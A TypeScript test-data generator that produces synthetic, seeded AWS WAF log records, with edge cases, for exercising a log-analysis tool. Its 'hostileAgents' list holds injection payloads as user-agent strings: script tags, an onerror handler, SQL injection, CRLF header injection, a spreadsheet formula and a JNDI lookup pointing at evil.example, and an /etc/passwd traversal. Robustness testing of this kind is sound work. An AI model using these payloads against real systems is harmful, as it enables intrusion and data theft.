import { formatIpv4 } from '../lib/insights/ipv4.ts'
import { Random } from '../lib/insights/random.ts'
import { hex, pick, uuid } from './identifiers.ts'

/** A web ACL and the site that it protects. */
export interface WebAcl {
  readonly account: string
  /** `cloudfront` for those of CloudFront. */
  readonly region: string
  readonly name: string
  readonly host: string
}

export interface WebRequest {
  readonly client: Client
  readonly ip: number
  /** Seconds since 1970. */
  readonly time: number
  readonly acl: WebAcl
  /** Without any oddity: attacks and accesses at the edges must become pairs. */
  readonly plain: boolean
}

const PATHS = ['/', '/login', '/api/orders', '/static/app.js', '/search', '/wp-login.php'] as const

/** A log record as one line of JSON, newline included; the same for the same seed and number. */
export function requestRecord(seed: number, number: number, request: WebRequest): string {
  const random = new Random(seed, 22, number)
  const { acl, time, client } = request
  const isCloudFront = acl.region === 'cloudfront'
  const region = isCloudFront ? 'us-east-1' : acl.region
  const oddity = request.plain ? 1 : random.uniform()
  const isBlocked = random.uniform() < 0.08
  const record = {
    timestamp: time * 1000 + random.below(1000),
    formatVersion: 1,
    webaclId: `arn:aws:wafv2:${region}:${acl.account}:${isCloudFront ? 'global' : 'regional'}/webacl/${acl.name}/${uuid(new Random(seed, 23))}`,
    terminatingRuleId: isBlocked ? 'BlockBadPaths' : 'Default_Action',
    terminatingRuleType: 'REGULAR',
    action: isBlocked ? 'BLOCK' : 'ALLOW',
    terminatingRuleMatchDetails: [],
    httpSourceName: isCloudFront ? 'CF' : 'ALB',
    httpSourceId: isCloudFront ? 'E2EXAMPLE1ABCD' : `${acl.account}-app/web/${hex(new Random(seed, 24), 2)}`,
    ruleGroupList: oddity < 0.02 ? null : RULE_GROUPS,
    rateBasedRuleList: [],
    nonTerminatingMatchingRules: [],
    requestHeadersInserted: null,
    responseCodeSent: null,
    httpRequest: {
      clientIp: addressOf(request.ip, oddity, random),
      country: client.country,
      headers: oddity >= 0.02 && oddity < 0.03 ? [] : headersOf(request, random),
      uri: pick(random, PATHS),
      args: random.uniform() < 0.3 ? `q=${hex(random, 1)}&page=${random.below(9)}` : '',
      httpVersion: 'HTTP/2.0',
      httpMethod: random.uniform() < 0.85 ? 'GET' : 'POST',
      requestId: `1-${hex(random, 1)}-${hex(random, 3)}`,
    },
    // Older records have none of these.
    ...(oddity >= 0.03 && oddity < 0.08
      ? {}
      : {
          labels: [{ name: `awswaf:clientip:geo:country:${client.country}` }],
          ja3Fingerprint: client.ja3,
          ja4Fingerprint: client.ja4,
          requestBodySize: 0,
          requestBodySizeInspectedByWAF: 0,
        }),
  }
  return `${JSON.stringify(record)}\n`
}

const RULE_GROUPS = [
  {
    ruleGroupId: 'AWS#AWSManagedRulesCommonRuleSet',
    terminatingRule: null,
    nonTerminatingMatchingRules: [],
    excludedRules: null,
    customerConfig: null,
  },
]

function addressOf(ip: number, oddity: number, random: Random): string {
  if (oddity >= 0.1 && oddity < 0.13) return `2001:db8::${hex(random, 1).slice(0, 4)}`
  if (oddity >= 0.13 && oddity < 0.14) return `10.0.${random.below(256)}.${random.below(256)}`
  return formatIpv4(ip)
}

/** Names keep the client's case. */
function headersOf({ client, ip, acl }: WebRequest, random: Random) {
  const isLowerCase = random.uniform() < 0.5
  const header = (name: string, value: string) => ({ name: isLowerCase ? name.toLowerCase() : name, value })
  return [
    header('Host', acl.host),
    ...(client.agent === undefined ? [] : [header('User-Agent', client.agent)]),
    header('Accept', '*/*'),
    header('Accept-Encoding', 'gzip, deflate, br'),
    // The client writes it, and it may hold several addresses.
    ...(random.uniform() < 0.1
      ? [header('X-Forwarded-For', `198.51.100.${random.below(256)}, ${formatIpv4(ip)}`)]
      : []),
  ]
}

/** A client of a web site, by what WAF logs of it. */
export interface Client {
  /** `User-Agent`, the default entity; undefined when the client sends none. */
  readonly agent: string | undefined
  readonly ja3: string
  readonly ja4: string
  readonly country: string
}

/** User agents that try to break whatever reads the logs: markup, quotes, separators, line breaks, escapes, length, other scripts. */
export const hostileAgents: readonly string[] = [
  '<script>document.title="owned"</script>',
  '"><img src=x onerror=alert(1)>',
  "Mozilla/5.0' OR '1'='1'; DROP TABLE pairs; --",
  'curl/8.5.0, 10.0.0.1, "quoted", end',
  'Mozilla/5.0 (two\nlines)\r\nX-Injected: yes',
  '=HYPERLINK("http://evil.example/","click")',
  '%3Cb%3E 100%25 %2e%2e %ZZ %',
  '../../../../etc/passwd\u0000.png',
  'Mozilla/5.0 (Windows NT 10.0) Ünïcödé/1.0 浏览器 браузер 🦊',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant literally
  'back\\slash `backtick` ${jndi:ldap://evil.example/a}',
  `long/${'A1 b.,'.repeat(250)}`,
  'two  spaces  twice',
  '\u001b[31mred\u001b[0m\ttab',
]

const COUNTRIES = ['US', 'DE', 'BR', 'IN', 'JP', 'SE', 'NG', 'FR'] as const
const BROWSERS = ['Chrome', 'Firefox', 'Edg', 'Safari'] as const
const SYSTEMS = ['Windows NT 10.0; Win64; x64', 'Macintosh; Intel Mac OS X 10_15_7', 'X11; Linux x86_64'] as const
const PROGRAMS = ['curl', 'python-requests', 'okhttp', 'Go-http-client', 'ExampleMonitor', 'partner-sync'] as const

/** The client with this number: the first sends no user agent, then come the hostile ones, then browsers and programs. */
export function clientOf(seed: number, number: number): Client {
  const random = new Random(seed, 21, number)
  return {
    agent: number === 0 ? undefined : (hostileAgents[number - 1] ?? ordinary(random, number)),
    ja3: hex(random, 4),
    ja4: `t13d${1000 + random.below(9000)}h2_${hex(random, 2).slice(0, 12)}_${hex(random, 2).slice(0, 12)}`,
    country: pick(random, COUNTRIES),
  }
}

function ordinary(random: Random, number: number): string {
  if (random.uniform() < 0.4) return `${pick(random, PROGRAMS)}/${1 + random.below(9)}.${number}.${random.below(20)}`
  const major = 90 + random.below(40)
  return `Mozilla/5.0 (${pick(random, SYSTEMS)}) AppleWebKit/537.36 (KHTML, like Gecko) ${pick(random, BROWSERS)}/${major}.0.${number}.${random.below(200)} Safari/537.36`
}
